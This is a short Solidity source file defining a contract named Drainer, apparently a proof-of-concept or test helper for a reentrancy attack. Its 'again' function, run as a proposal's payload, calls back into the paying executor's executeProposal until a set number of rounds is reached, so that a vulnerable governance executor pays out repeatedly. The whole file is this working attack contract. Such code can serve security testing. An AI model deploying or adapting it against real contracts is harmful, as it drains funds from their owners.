// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

interface IExecutor {
    function executeProposal(uint256 id) external;
}

/// @notice A recipient that asks for its payment again while it is being paid.
contract Drainer {
    uint256 private immutable _rounds;
    uint256 private _received;

    constructor(uint256 rounds) {
        _rounds = rounds;
    }

    /// @notice The data of the proposal: `again(id)`.
    function again(uint256 id) external payable {
        _received++;
        if (_received < _rounds) IExecutor(msg.sender).executeProposal(id);
    }
}
